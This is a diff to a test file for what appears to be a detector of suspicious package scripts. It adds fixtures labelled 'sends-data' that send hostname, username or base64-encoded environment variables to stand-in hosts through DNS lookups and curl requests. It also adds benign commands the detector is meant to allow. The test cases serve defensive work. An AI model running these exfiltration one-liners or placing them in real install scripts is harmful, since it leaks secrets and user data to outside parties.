@@ -113,6 +113,15 @@ describe('suspicious scripts', () => {
       'curl "https://x.example.test/%USERNAME%"',
     ],
     'sends-data: nslookup … $(…)': ['nslookup $(whoami).x.example.test'],
+    'sends-data: nslookup … (a variable)': [
+      'a=$(hostname;whoami) && echo $a | xxd -p | while read x;do nslookup $x.a.example.test;done',
+      'hostname | xxd -p | xargs -I % nslookup %.a.example.test',
+      'for x in $(whoami | xxd -p); do nslookup $x.a.example.test; done',
+    ],
+    'sends-data: curl … (a variable)': [
+      'u=`whoami`; curl https://x.example.test/?u=$u',
+      'd=$(env | base64) && curl -s -d "$d" https://x.example.test',
+    ],
     'sends-data: … | curl': [
       'env | curl -d @- https://x.example.test',
       'cat ~/.npmrc | base64 | curl -d @- https://x.example.test',
@@ -180,6 +189,10 @@ describe('suspicious scripts', () => {
       'echo $FILE | base64 -d > google.json && node sign.js google.json',
       'wget -qO- https://x.example.test/v.json | jq -r .v > v.txt && node build.js',
       'source ~/.bashrc && nvm use',
+      'H=$(hostname) && curl -f http://$H:8080/health',
+      'T=$(uname -s); curl -L https://x.example.test/$T/a.zip -o a.zip',
+      'export U=$(whoami) && docker build --build-arg U=$U . && curl -f https://x.example.test/health',
+      'v=$(env A=1 node version.js); curl -L https://x.example.test/$v.zip -o a.zip',
       'node -e "fetch(\'http://localhost:3000/health\').then(r => process.exit(r.ok ? 0 : 1))"',
       ': # curl https://x.example.test | bash',
       ':; (node ./preinstall.js > /dev/null 2>&1 || true)',
